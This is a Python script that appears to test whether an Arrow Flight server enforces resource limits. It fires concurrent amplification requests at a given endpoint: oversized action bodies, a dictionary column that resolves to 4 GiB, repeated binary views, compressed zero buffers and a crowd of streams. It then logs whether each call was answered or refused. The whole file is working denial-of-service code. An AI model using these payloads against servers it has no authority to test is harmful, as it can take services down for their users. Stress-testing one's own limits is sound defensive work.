"""Requests that are cheap for their sender and costly for a server without limits: `python attackers.py …`.

attackers.py ENDPOINT NAME [ACCESS_KEY:SECRET]     prints how each of its calls ended, one JSON line a call
"""

from __future__ import annotations

import json
import struct
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pyarrow as pa
import pyarrow.flight as flight

MIB = 1024 * 1024
ROWS = 131_072
BOUND_S = 90
SCHEMA = pa.schema([("topic", pa.string()), ("body", pa.binary())])


def action(size_bytes: int) -> Callable[[flight.FlightClient, Any], None]:
    """Build a call of an action with a body of this size."""
    return lambda client, options: list(
        client.do_action(flight.Action("status", pa.py_buffer(bytes(size_bytes))), options)
    )


def exchange(
    batch: Callable[[], pa.RecordBatch], times: int = 1, **written: Any
) -> Callable[[flight.FlightClient, Any], None]:
    """Build a call of a send stream that sends a batch `times` times. `written`: options of the IPC writer."""

    def call(client: flight.FlightClient, options: Any) -> None:
        """Send the batch `times` times. Always raise an error: that of the call, or RuntimeError with the refusals."""
        given = batch()
        write = pa.ipc.IpcWriteOptions(**written)
        both = flight.FlightCallOptions(timeout=BOUND_S, headers=options.headers, write_options=write)
        writer, reader = client.do_exchange(flight.FlightDescriptor.for_path(b"send"), both)
        writer.begin(given.schema, options=write)
        for _ in range(times):
            writer.write_batch(given)
        writer.done_writing()
        refused = [json.loads(chunk.app_metadata.to_pybytes()).get("error") for chunk in reader]
        raise RuntimeError(f"{len(refused)} answers, refused: {sorted(filter(None, set(refused)))}")

    return call


def dictionary() -> pa.RecordBatch:
    """Build a column with 131,072 references to a value of 32 KiB: 4 GiB when it is resolved."""
    body = pa.DictionaryArray.from_arrays(
        pa.repeat(pa.scalar(0, pa.int32()), ROWS), pa.array([bytes(32_768)])
    )
    return pa.RecordBatch.from_arrays([pa.repeat("orders", ROWS), body], names=["topic", "body"])


def views() -> pa.RecordBatch:
    """Build a column with 131,072 views of a value of 32 KiB."""
    value = bytes(32_768)
    item = struct.pack("<i4sii", len(value), value[:4], 0, 0)
    body = pa.Array.from_buffers(
        pa.binary_view(), ROWS, [None, pa.py_buffer(item * ROWS), pa.py_buffer(value)]
    )
    return pa.RecordBatch.from_arrays([pa.repeat("orders", ROWS), body], names=["topic", "body"])


def zeros(size_bytes: int) -> pa.RecordBatch:
    """Build a row with a long body of zeros, which is small if it is compressed."""
    return pa.RecordBatch.from_arrays([pa.array(["orders"]), pa.array([bytes(size_bytes)])], schema=SCHEMA)


ATTACKS: dict[str, tuple[int, Callable[[flight.FlightClient, Any], None]]] = {
    # name: (how many at once, what each does)
    "four actions of 256 MiB": (4, action(256 * MIB)),
    "an action of 1 GiB": (1, action(1024 * MIB)),
    "a dictionary": (4, exchange(dictionary)),
    "views": (4, exchange(views)),
    "compressed zeros": (4, exchange(lambda: zeros(512 * MIB), compression="zstd")),
    "a batch of 256 MiB": (4, exchange(lambda: zeros(256 * MIB))),
    "a crowd with the longest batches": (44, exchange(lambda: zeros(4 * MIB), times=6)),
}


def run(endpoint: str, name: str, credentials: str) -> Iterator[str]:
    """Make the calls of an attack, all at once. Return how each ended."""
    count, call = ATTACKS[name]
    headers = [(b"authorization", f"Bearer {credentials}".encode())] if credentials else []
    options = flight.FlightCallOptions(timeout=BOUND_S, headers=headers)

    def one(_: int) -> str:
        try:
            with flight.FlightClient(endpoint) as client:
                call(client, options)
        except Exception as error:  # the error is the outcome
            return f"{type(error).__name__}: {str(error)[:200]}"
        return "answered"

    with ThreadPoolExecutor(count) as pool:
        yield from pool.map(one, range(count))


if __name__ == "__main__":
    for outcome in run(sys.argv[1], sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else ""):
        print(json.dumps({"outcome": outcome}), flush=True)
